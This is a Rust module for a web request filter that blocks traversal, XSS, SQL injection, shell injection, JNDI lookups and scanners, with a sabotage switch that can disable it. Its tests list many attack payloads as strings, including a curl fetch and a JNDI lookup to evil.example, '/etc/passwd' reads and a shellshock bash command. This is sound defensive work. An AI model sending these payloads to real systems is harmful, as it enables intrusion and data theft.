//! "A request filter stands before everything else." A numbered list of rules over path, query and headers, judged before a
//! host is looked up or a route found. Each rule is written for what only an attack says: bodies are not judged here, because
//! a contract may quote SQL, and nothing behind this filter trusts it.

use http::{HeaderMap, Uri, header};
use kernel::Failure;
use regex::bytes::{RegexSet, RegexSetBuilder};

/// Version of the rules; a change to any of them is another version.
pub const RULES: u32 = 1;

/// What a rule reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    /// The path, decoded.
    Path,
    /// The path, and each member of the query, decoded.
    Text,
    /// Every header's value, the path and the query's members.
    Anywhere,
    /// `User-Agent`.
    Agent,
}

/// One rule.
struct Rule {
    id: &'static str,
    place: Place,
    /// Read without regard to case. `~` stands for white space or an SQL comment.
    pattern: &'static str,
}

const fn rule(id: &'static str, place: Place, pattern: &'static str) -> Rule {
    Rule { id, place, pattern }
}

/// White space as SQL sees it.
const GAP: &str = r"(?:\s|/\*[^*]*\*/)";

static TABLE: &[Rule] = &[
    // Out of the folder, or to what no site means to serve.
    rule("path.traversal", Place::Path, r"(?:^|[/\\])\.\.(?:[/\\;]|$)"),
    rule("path.hidden", Place::Path, r"/\.(?:env|git|svn|hg|aws|ssh|docker|htpasswd|htaccess|ds_store)(?:[/.]|$)"),
    rule(
        "path.probe",
        Place::Path,
        r"/(?:wp-login\.php|wp-config\.php|xmlrpc\.php|phpmyadmin/|vendor/phpunit/|actuator/(?:env|heapdump)$|cgi-bin/[^/]*\.(?:sh|pl|cgi))",
    ),
    rule("file.traversal", Place::Text, r"(?:\.\.[/\\]){2,}"),
    rule(
        "file.system",
        Place::Text,
        r"(?:^|=|file://|\.\.[/\\]|[\s'\x22])[/\\]*(?:etc[/\\](?:passwd|shadow)|proc[/\\]self[/\\]environ|windows[/\\]win\.ini)\b",
    ),
    rule("file.wrapper", Place::Text, r"\b(?:php://(?:filter|input)|phar://|expect://)"),
    rule("text.null", Place::Text, r"\x00"),
    // Markup that runs.
    rule("script.tag", Place::Text, r"<script(?:[\s/>]|$)"),
    rule(
        "script.handler",
        Place::Text,
        r"<[a-z][^>]*[\s/'\x22]on(?:load|error|abort|click|dblclick|mouse\w+|key\w+|focus\w*|blur|toggle|begin|end|repeat|animation\w+|transition\w+|pointer\w+|wheel|change|input|submit|reset|pageshow|hashchange|message|popstate|unload|beforeunload|resize|scroll\w*|copy|cut|paste|drag\w*|drop|play\w*|canplay\w*|contextmenu|touch\w+)\s*=",
    ),
    rule("script.address", Place::Text, r"(?:^|['\x22(=\s])(?:javascript|vbscript):[^\s]*[(=`]"),
    rule(
        "script.embed",
        Place::Text,
        r"<(?:iframe|embed|object|base|meta)\s[^>]*\b(?:src|srcdoc|data|href|http-equiv)\s*=",
    ),
    rule("script.template", Place::Text, r"\{\{[^}]*(?:constructor|__proto__|\$eval)[^}]*\}\}"),
    // SQL that leaves its place.
    rule(
        "sql.union",
        Place::Text,
        r"\bunion~+(?:all~+|distinct~+)?select~+(?:null\b|@@|\d+~*(?:,|--|#|$)|\*~+from\b|[a-z_.]+\(|(?:[a-z_.]+~*,~*)+[a-z_.]+~+from~+[a-z_]+)",
    ),
    rule(
        "sql.union_quoted",
        Place::Text,
        r"['\x22`)]~*\bunion~+(?:all~+|distinct~+)?select\b.*(?:\bfrom~+[a-z_.]+~*(?:--|#|;|$)|\bnull\b)",
    ),
    rule(
        "sql.tautology",
        Place::Text,
        r"['\x22]~*\)*~*(?:or|and|\|\||&&)~+\(*~*(?:\d+~*(?:=|<|>|like)~*\d+|'[^']*'~*(?:=|like)~*'|\x22[^\x22]*\x22~*(?:=|like)~*\x22|true~*(?:--|#|$)|not~+false)",
    ),
    rule(
        "sql.tautology_number",
        Place::Text,
        r"(?:^|=)~*-?\d+~*\)*~+(?:or|and)~+(?:0~*=~*0|1~*=~*[12]|2~*=~*2)(?:~|--|#|$)",
    ),
    rule("sql.comment", Place::Text, r"[a-z0-9)]'~*\)*~*(?:--~*-?|#|/\*.*)$"),
    rule(
        "sql.stacked",
        Place::Text,
        r"['\x22)\d]?~*;~*(?:(?:drop|truncate|alter)~+(?:table|database|schema|view|user)~+(?:if~+exists~+)?[\w.\x22`]+~*(?:;|--|#|/\*|cascade|$)|delete~+from~+[\w.]+~*(?:;|--|#|where~+\w+~*=|$)|insert~+into~+[\w.]+~*[(v]|update~+[\w.]+~+set~+\w+~*=|exec(?:ute)?~+(?:xp_|sp_|master)|shutdown~*(?:;|--|$))",
    ),
    rule(
        "sql.delay",
        Place::Text,
        r"\bpg_sleep~*\(|\bbenchmark\(\d+,|\bdbms~pipe\.receive_message\(|\bwaitfor~+delay~+['\x22]|(?:['\x22),;]|\bselect|\band|\bor|\bif)~*\(?~*sleep\(\d+(?:\.\d+)?\)",
    ),
    rule(
        "sql.catalogue",
        Place::Text,
        r"\bfrom~+(?:information_schema\.(?:tables|columns|schemata)|sqlite_(?:master|schema)|pg_catalog\.\w+|pg_shadow|mysql\.user)\b|\bxp_cmdshell\b|\binto~+(?:outfile|dumpfile)~+['\x22]|\b(?:extractvalue|updatexml)\([^)]*concat\(",
    ),
    // Commands and lookups.
    rule(
        "shell.read",
        Place::Text,
        r"(?:;|\||&&|\$\(|`)\s*(?:cat|head|tail|less|more|nl)\s+/(?:etc|proc|var|root|home)/",
    ),
    rule("shell.fetch", Place::Text, r"(?:;|\||&&|\$\(|`)\s*(?:wget|curl)\s+(?:-\S+\s+)*(?:https?|ftp)://"),
    rule(
        "shell.run",
        Place::Text,
        r"(?:\$\(|`)\s*(?:id|whoami|uname|hostname|ls|env|sleep)\b[^)`]*[)`]|(?:;|\||&&)\s*(?:(?:whoami|uname\s+-a)\s*(?:$|[;|&#])|nc\s+-\w*e|(?:ba)?sh\s+-[ci])\b",
    ),
    rule("shell.shock", Place::Anywhere, r"^\(\)\s*\{[^}]*\}\s*;"),
    rule(
        "lookup.jndi",
        Place::Anywhere,
        r"\$\{\s*(?:jndi\s*:|(?:env|sys|java|ctx|lower|upper|main|date):[^}]*\}?|::-)",
    ),
    rule(
        "header.split",
        Place::Text,
        r"[\r\n]\s*(?:set-cookie|transfer-encoding|content-length)\s*:|[\r\n]\s*http/1\.[01]\s+\d",
    ),
    rule(
        "object.prototype",
        Place::Text,
        r"^(?:[^=]*[\[.])?__proto__[\].\[=]|^(?:[^=]*[\[.])?constructor[\].\[]+prototype",
    ),
    // Programs that say that they are here to look for holes.
    rule(
        "agent.scanner",
        Place::Agent,
        r"\b(?:sqlmap|nikto|acunetix|nessus|openvas|wpscan|dirbuster|gobuster|feroxbuster|havij|masscan|zgrab|nuclei)\b",
    ),
];

/// The rules of one kind of text.
struct Sheet {
    set: RegexSet,
    ids: Vec<&'static str>,
}

impl Sheet {
    fn new(places: &[Place]) -> Result<Self, Failure> {
        let rules = || TABLE.iter().filter(|rule| places.contains(&rule.place));
        let patterns = rules().map(|rule| spelt(rule.pattern));
        let set =
            RegexSetBuilder::new(patterns).case_insensitive(true).unicode(false).dot_matches_new_line(true).build();
        let set = set.map_err(|e| Failure::Internal(format!("filter: {e}").into()))?;
        Ok(Self { set, ids: rules().map(|rule| rule.id).collect() })
    }
    /// The first rule, in the table's order, that the text breaks.
    fn broken(&self, text: &[u8]) -> Option<&'static str> {
        self.set.matches(text).iter().next().and_then(|at| self.ids.get(at).copied())
    }
}

/// A pattern with its gaps written out.
fn spelt(pattern: &str) -> String {
    pattern.replace('~', GAP)
}

/// The rules, ready to be asked.
pub struct Filter {
    path: Sheet,
    member: Sheet,
    header: Sheet,
    agent: Sheet,
}

/// Bytes of a text that are judged; longer ones are refused elsewhere.
const LONGEST: usize = 16 * 1024;

impl Filter {
    /// Reads the table.
    ///
    /// # Errors
    /// Internal, when a rule is no pattern.
    pub fn new() -> Result<Self, Failure> {
        Ok(Self {
            path: Sheet::new(&[Place::Path, Place::Text, Place::Anywhere])?,
            member: Sheet::new(&[Place::Text, Place::Anywhere])?,
            header: Sheet::new(&[Place::Anywhere])?,
            agent: Sheet::new(&[Place::Agent])?,
        })
    }

    /// Refuses what a rule names. Nothing else has looked at the request yet.
    ///
    /// # Errors
    /// `Filtered` with the rule's id.
    pub fn check(&self, uri: &Uri, headers: &HeaderMap) -> Result<(), Failure> {
        match self.broken(uri, headers) {
            Some(rule) if !kernel::sabotage::off("edge.waf") => Err(Failure::Filtered(rule)),
            _ => Ok(()),
        }
    }

    fn broken(&self, uri: &Uri, headers: &HeaderMap) -> Option<&'static str> {
        let read = |sheet: &Sheet, text: &[u8], plus| readings(text, plus).iter().find_map(|t| sheet.broken(t));
        let query = uri.query().unwrap_or_default();
        let agent = headers.get_all(header::USER_AGENT).iter().find_map(|value| self.agent.broken(value.as_bytes()));
        // A lookup or a function definition needs one of these; most headers have neither.
        let odd = |value: &&http::HeaderValue| value.as_bytes().iter().any(|b| matches!(b, b'$' | b'{'));
        read(&self.path, uri.path().as_bytes(), false)
            .or_else(|| query.split('&').find_map(|member| read(&self.member, member.as_bytes(), true)))
            .or(agent)
            .or_else(|| headers.values().filter(odd).find_map(|value| self.header.broken(value.as_bytes())))
    }
}

/// A text as a server could read it: decoded once, and once more where that leaves something to decode.
fn readings(text: &[u8], plus: bool) -> Vec<Vec<u8>> {
    let text = text.get(..LONGEST).unwrap_or(text);
    let once = decoded(text, plus);
    let again = once.contains(&b'%').then(|| decoded(&once, false));
    std::iter::once(once).chain(again).collect()
}

fn decoded(text: &[u8], plus: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((&byte, tail)) = rest.split_first() {
        let digit = |at: usize| tail.get(at).and_then(|b| char::from(*b).to_digit(16));
        rest = tail;
        match (byte, digit(0), digit(1)) {
            (b'%', Some(high), Some(low)) => {
                out.push(u8::try_from(high * 16 + low).unwrap_or_default());
                rest = tail.get(2..).unwrap_or_default();
            }
            (b'+', ..) if plus => out.push(b' '),
            (byte, ..) => out.push(byte),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use http::HeaderValue;

    use super::*;

    /// As a client would send it: what may not stand in a URL is encoded.
    fn sent(text: &str) -> String {
        let plain = |b: u8| b.is_ascii_alphanumeric() || b"/?&=%+.;:_-~()!*'$,@".contains(&b);
        text.bytes().map(|b| if plain(b) { char::from(b).to_string() } else { format!("%{b:02x}") }).collect()
    }

    fn judged(target: &str, name: &'static str, value: &str) -> Option<&'static str> {
        let mut headers = HeaderMap::new();
        headers.insert(name, HeaderValue::from_str(value).unwrap());
        Filter::new().unwrap().broken(&sent(target).parse().unwrap(), &headers)
    }

    fn target(text: &str) -> Option<&'static str> {
        judged(text, "accept", "*/*")
    }

    #[test]
    fn attacks_are_named() {
        for (text, rule) in [
            ("/a/../../etc/passwd", "path.traversal"),
            ("/a/%2e%2e/%2e%2e/secret", "path.traversal"),
            ("/a/%252e%252e%252fsecret", "path.traversal"),
            ("/a/..%5cwindows", "path.traversal"),
            ("/static/..;/manager", "path.traversal"),
            ("/.env", "path.hidden"),
            ("/.git/config", "path.hidden"),
            ("/app/.env.production", "path.hidden"),
            ("/wp-login.php", "path.probe"),
            ("/cgi-bin/test.sh", "path.probe"),
            ("/?f=../../../../x", "file.traversal"),
            ("/?f=/etc/passwd", "file.system"),
            ("/?f=file:///etc/shadow", "file.system"),
            ("/?f=php://filter/read=x", "file.wrapper"),
            ("/?f=a%00.png", "text.null"),
            ("/?q=<script>alert(1)</script>", "script.tag"),
            ("/<ScRiPt >alert(1)", "script.tag"),
            ("/?q=%253Cscript%253Ealert(1)", "script.tag"),
            ("/?q=<img src=x onerror=alert(1)>", "script.handler"),
            ("/?q=<svg/onload=alert(1)>", "script.handler"),
            ("/?q=javascript:alert(1)", "script.address"),
            ("/?q=\" href=javascript:alert`1`", "script.address"),
            ("/?q=<iframe src=//evil.example>", "script.embed"),
            ("/?q={{constructor.constructor('x')()}}", "script.template"),
            ("/?id=1 UNION SELECT null,null", "sql.union"),
            ("/?id=-1/**/union/**/all/**/select/**/1,2,3", "sql.union"),
            ("/?id=1+union+select+username,password+from+users", "sql.union"),
            ("/?id=x' UNION SELECT password FROM users--", "sql.union_quoted"),
            ("/?id=1' OR '1'='1", "sql.tautology"),
            ("/?id=x' or 1=1--", "sql.tautology"),
            ("/?id=\" or \"\"=\"", "sql.tautology"),
            ("/?id=') or ('a'='a", "sql.tautology"),
            ("/?id=1 or 1=1", "sql.tautology_number"),
            ("/?user=admin'--", "sql.comment"),
            ("/?user=admin' #", "sql.comment"),
            ("/?id=1; DROP TABLE users", "sql.stacked"),
            ("/?id=x'; DROP TABLE students;--", "sql.stacked"),
            ("/?id=1;delete from users", "sql.stacked"),
            ("/?id=1; update users set role='x'", "sql.stacked"),
            ("/?id=1 and sleep(5)", "sql.delay"),
            ("/?id=1;select pg_sleep(5)", "sql.delay"),
            ("/?id=1 waitfor delay '0:0:5'", "sql.delay"),
            ("/?id=(select 1 from information_schema.tables)", "sql.catalogue"),
            ("/?id=1 and extractvalue(1,concat(0x7e,version()))", "sql.catalogue"),
            ("/?h=x; cat /etc/hosts", "shell.read"),
            ("/?h=x|curl http://evil.example/a", "shell.fetch"),
            ("/?h=$(id)", "shell.run"),
            ("/?h=`whoami`", "shell.run"),
            ("/?h=${jndi:ldap://evil.example/a}", "lookup.jndi"),
            ("/?h=a%0d%0aSet-Cookie: a=b", "header.split"),
            ("/?__proto__[admin]=1", "object.prototype"),
            ("/?a[constructor][prototype][x]=1", "object.prototype"),
        ] {
            assert_eq!(target(text), Some(rule), "{text}");
        }
        for (name, value, rule) in [
            ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", "agent.scanner"),
            ("user-agent", "Mozilla/5.00 (Nikto/2.1.6)", "agent.scanner"),
            ("user-agent", "() { :;}; /bin/bash -c 'id'", "shell.shock"),
            ("referer", "${jndi:ldap://evil.example/a}", "lookup.jndi"),
            ("x-api-version", "${${lower:j}ndi:ldap://x}", "lookup.jndi"),
        ] {
            assert_eq!(judged("/", name, value), Some(rule), "{value}");
        }
    }

    #[test]
    fn their_harmless_twins_pass() {
        for text in [
            "/files/report..final.pdf",
            "/a...b/c..d",
            "/.well-known/security.txt",
            "/environment/git",
            "/docs/wp-login-help",
            "/?q=O'Brien",
            "/?q=O'Brien's and D'Arcy's",
            "/?q='quoted' or 'not'",
            "/?q=rock 'n' roll -- live",
            "/?q=the SELECT committee of the union",
            "/?q=student union select committee",
            "/?q=union select members, staff and guests from the north",
            "/?q=Western union; select from menu",
            "/?q=drop table tennis; add chess",
            "/?q=lunch; drop table tennis off the list",
            "/?q=update the contract; set a date",
            "/?q=please delete from the list: Anna",
            "/?q=<b>bold</b> and a < b > c",
            "/?q=a <em class=\"online\">word</em>",
            "/?q=javascript: the good parts",
            "/?q=JavaScript for beginners",
            "/?q=script for act 2 <scriptwriter>",
            "/?q=sleep (8 hours) and sleep well",
            "/?q=benchmark (2024) results",
            "/?q=2 and 2 = 4",
            "/?q=room 1 or 2",
            "/?q=salt; cat food | dog food && more",
            "/?q=price ${amount} for {{name}}",
            "/?q=C:\\Users\\Anna",
            "/?q=../sibling",
            "/?q=100% cotton + wool",
            "/?q=50%25 off",
            "/?q=etc. passwords and shadows",
            "/?q=R&D; M&A",
            "/?q=constructor of bridges",
            "/?q=Location: Oslo%0d%0aHost: Anna",
            "/?q=id; name; whoami the musical",
            "/?q=#1 -- best",
            "/?filter=status = 'open' or status = 'closed'",
            "/?filter=status = \"paid\" and (total >= \"12.00 EUR\" or note is null)",
            "/?filter=name ~ 'O%27Brien' and count = 1",
            "/?filter=id in ('a', 'b') and done = true",
            "/?sort=-created_at,name&fields=id,select,from&cursor=eyJhIjoxfQ%3D%3D",
            "/w/team/api/v1/collections/orders/records?limit=30",
            "/api/v1/auth/verify?token=0a1b2c3d4e5f60718293a4b5c6d7e8f9",
        ] {
            assert_eq!(target(text), None, "{text}");
        }
        for (name, value) in [
            (
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
            ),
            ("user-agent", "nucleic-acid-client/1.0 (curl)"),
            ("referer", "https://shop.example/?utm_source=${campaign}"),
            ("cookie", "__Host-session=eyJhbGciOi.J9.x; theme={\"dark\":true}"),
            ("if-match", "\"7\""),
        ] {
            assert_eq!(judged("/", name, value), None, "{value}");
        }
    }

    #[test]
    fn every_rule_has_its_own_name() {
        let mut ids: Vec<_> = TABLE.iter().map(|rule| rule.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), TABLE.len());
    }
}
